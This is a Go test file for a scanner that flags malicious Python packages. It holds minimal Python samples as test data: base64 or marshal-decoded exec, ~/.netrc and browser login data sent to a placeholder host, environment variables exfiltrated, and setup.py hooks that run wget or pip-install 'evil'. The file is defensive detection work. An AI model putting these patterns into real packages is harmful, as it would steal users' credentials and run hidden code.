package scan

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/pydepot/pydepot/internal/checkreport"
)

func scanSource(rel, src string) []checkreport.Finding {
	out := &collector{max: 100, seen: map[string]bool{}}
	if strings.HasSuffix(rel, ".pth") {
		scanPth(rel, []byte(src), out)
	} else {
		scanPython(rel, isSetup(rel), []byte(src), out)
	}
	return out.list
}

// TestRules: each rule on the smallest source that shows it, and the near misses that
// must stay quiet (or low).
func TestRules(t *testing.T) {
	for _, tc := range []struct {
		name, rel, src string
		kind           checkreport.Kind // "" = no finding of medium or more
		sev            checkreport.Severity
	}{
		{"exec b64", "m.py", "import base64\nexec(base64.b64decode(x))\n", checkreport.Obfuscation, checkreport.High},
		{"exec from-import alias", "m.py", "from base64 import b64decode as d\nexec(d(x))\n", checkreport.Obfuscation, checkreport.High},
		{"dunder import", "m.py", "exec(__import__('zlib').decompress(x))\n", checkreport.Obfuscation, checkreport.High},
		{"getattr builtins exec", "m.py", "import builtins\ngetattr(builtins, 'exec')(bytes.fromhex(h))\n", checkreport.Obfuscation, checkreport.High},
		{"marshal", "m.py", "import marshal\nexec(marshal.loads(b))\n", checkreport.Obfuscation, checkreport.High},
		{"rot13", "m.py", "import codecs\nexec(codecs.decode(s, 'rot13'))\n", checkreport.Obfuscation, checkreport.High},
		{"reversed", "m.py", "exec('))1(tnirp'[::-1])\n", checkreport.Obfuscation, checkreport.High},
		{"py2 exec statement", "m.py", "import base64\nexec base64.b64decode(x)\n", checkreport.Obfuscation, checkreport.High},
		{"taint through def and later assignment", "m.py", "def run():\n    exec(code)\n\ndef dec(s):\n    return binascii.unhexlify(s)\n\ncode = dec(H)\n", checkreport.Obfuscation, checkreport.High},
		{"exec of a file", "setup.py", "exec(open('v.py').read(), about)\n", "", ""},
		{"decode without exec", "m.py", "import base64\nv = base64.b64decode(x)\nprint(v)\n", "", ""},
		{"eval of user input", "m.py", "eval(compile(expr, '<e>', 'eval'))\n", "", ""},
		{"netrc exfil", "m.py", "import socket\nwith open(os.path.expanduser('~/.netrc')) as f:\n    d = f.read()\nsock = socket.socket()\nsock.connect(('h', 1))\nsock.send(d)\n", checkreport.Exfiltration, checkreport.High},
		{"env items exfil", "m.py", "import os, requests\nfor k, v in os.environ.items():\n    requests.get('http://h/' + k + v)\n", checkreport.Exfiltration, checkreport.High},
		{"env and network without flow", "m.py", "import os, requests\nsnapshot = os.environ.copy()\nrequests.get(url)\n", checkreport.Exfiltration, checkreport.Medium},
		{"env reads with network", "m.py", "import os, requests\nif 'X' in os.environ:\n    requests.get(os.environ['URL'], headers={'a': os.environ.get('A')})\n", "", ""},
		{"env= of subprocess", "m.py", "import os, requests, subprocess\nsubprocess.run(c, env=os.environ)\nenv = dict(os.environ, A='1')\nrequests.get(u)\n", "", ""},
		{"ssh named, no network", "m.py", "KEY = '~/.ssh/id_rsa'\n", checkreport.ReadSecrets, checkreport.Low},
		{"ssh named in setup.py", "setup.py", "KEY = '~/.ssh/id_rsa'\n", checkreport.ReadSecrets, checkreport.Medium},
		{"browser store", "m.py", "import requests\np = os.path.join(base, 'Google/Chrome/User Data', 'Default', 'Login Data')\nrequests.post(u, files={'f': open(p, 'rb')})\n", checkreport.Exfiltration, checkreport.High},
		{"docstring mention", "m.py", "'''Reads ~/.ssh/config.'''\n", "", ""},
		{"setup network import only", "setup.py", "import requests\n", checkreport.SetupNetwork, checkreport.Medium},
		{"setup network call", "pkg-1.0/setup.py", "import requests as r\nr.get('http://h')\n", checkreport.SetupNetwork, checkreport.High},
		{"network outside setup.py", "pkg/setup.py/x.py", "import requests as r\nr.get('http://h')\n", "", ""},
		{"deep setup.py is not setup.py", "a/b/setup.py", "import requests as r\nr.get('http://h')\n", "", ""},
		{"setup subprocess", "setup.py", "import subprocess\nsubprocess.check_call(['cmake', '..'])\n", checkreport.SetupExec, checkreport.Medium},
		{"setup os.system wget", "setup.py", "import os\nos.system('wget http://h/x')\n", checkreport.SetupExec, checkreport.High},
		{"setup pip install", "setup.py", "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', 'evil'])\n", checkreport.InstallFetch, checkreport.High},
		{"develop cmdclass runs", "setup.py", "from setuptools.command.develop import develop\nimport os\nclass D(develop):\n    def run(self):\n        os.system('make')\n", checkreport.InstallFetch, checkreport.High},
		{"build_ext cmdclass runs cmake", "setup.py", "from setuptools.command.build_ext import build_ext\nimport subprocess\nclass B(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '.'])\n", checkreport.SetupExec, checkreport.Medium},
		{"egg_info cmdclass fetches", "setup.py", "from setuptools.command.egg_info import egg_info\nimport urllib.request as u\nclass E(egg_info):\n    def run(self):\n        u.urlopen('http://h')\n", checkreport.InstallFetch, checkreport.High},
		{"pth import", "x.pth", "import os; os.environ.setdefault('A', 'b')\n", checkreport.Pth, checkreport.Medium},
		{"pth network", "x.pth", "import urllib.request\n", checkreport.Pth, checkreport.High},
		{"pth subprocess", "x.pth", "import os; os.system('id')\n", checkreport.Pth, checkreport.High},
		{"pth paths", "x.pth", "/opt/lib\n# import os\n", checkreport.Pth, checkreport.Low},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := scanSource(tc.rel, tc.src)
			for _, f := range got {
				t.Logf("%s %s %s", f.Severity, f.Kind, f.Detail)
			}
			if tc.kind == "" {
				for _, f := range got {
					if f.Severity.Rank() >= checkreport.Medium.Rank() {
						t.Errorf("want nothing of medium or more, got %s %s: %s", f.Severity, f.Kind, f.Detail)
					}
				}
				return
			}
			worst := checkreport.Severity("")
			for _, f := range got {
				if f.Kind == tc.kind && f.Severity.Rank() > worst.Rank() {
					worst = f.Severity
				}
			}
			if worst != tc.sev {
				t.Errorf("want a %s %s finding, the worst %s is %q", tc.sev, tc.kind, tc.kind, worst)
			}
		})
	}
}

// TestLimits: a bound reached gives a medium limit finding with what was found so far,
// an oversized file is reported unread, and a cancelled context is an error.
func TestLimits(t *testing.T) {
	dir := t.TempDir()
	for i, name := range []string{"a.py", "b.py", "c.py"} {
		src := "import base64\nexec(base64.b64decode(x))\n"
		if i == 2 {
			src = strings.Repeat("#", 2000)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("/etc/passwd", filepath.Join(dir, "link.py")); err != nil {
		t.Fatal(err)
	}
	count := func(fs []checkreport.Finding, k checkreport.Kind) int {
		n := 0
		for _, f := range fs {
			if f.Kind == k {
				n++
			}
		}
		return n
	}
	got, err := Limits{Files: 3}.Dir(context.Background(), dir) // the folder, a.py, b.py
	if err != nil {
		t.Fatal(err)
	}
	if count(got, checkreport.Limit) != 1 || count(got, checkreport.Obfuscation) != 2 {
		t.Errorf("file bound: %+v", got)
	}
	got, err = Limits{FileBytes: 1000}.Dir(context.Background(), dir)
	if err != nil {
		t.Fatal(err)
	}
	if count(got, checkreport.Limit) != 1 || !strings.Contains(got[len(got)-1].Detail, "c.py: not scanned") {
		t.Errorf("file size bound: %+v", got)
	}
	got, err = Limits{Bytes: 100}.Dir(context.Background(), dir)
	if err != nil || count(got, checkreport.Limit) != 1 || got[len(got)-1].Severity != checkreport.Medium {
		t.Errorf("total bound: %+v, %v", got, err)
	}
	got, err = Limits{Findings: 1}.Dir(context.Background(), dir)
	if err != nil || len(got) != 2 || got[1].Kind != checkreport.Limit || got[1].Severity != checkreport.High {
		t.Errorf("findings bound: %+v, %v", got, err)
	}
	got, err = Limits{Time: time.Nanosecond}.Dir(context.Background(), dir)
	if err != nil || count(got, checkreport.Limit) != 1 {
		t.Errorf("time bound: %+v, %v", got, err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Dir(ctx, dir); err == nil {
		t.Errorf("a cancelled scan gave no error")
	}
	if _, err := Dir(context.Background(), filepath.Join(dir, "a.py")); err == nil {
		t.Errorf("a file as root gave no error")
	}
}

// TestLinear: pathological nesting costs time linear in the size (a quadratic walk of
// 100,000 nested calls would take minutes).
func TestLinear(t *testing.T) {
	n := 100000
	src := strings.Repeat("exec(", n) + "base64.b64decode(x)" + strings.Repeat(")", n) + "\n" +
		"y = " + strings.Repeat("a.", n) + "b\n"
	start := time.Now()
	got := scanSource("setup.py", src)
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("%d nested calls took %s", n, d)
	}
	if len(got) == 0 {
		t.Errorf("no finding")
	}
}
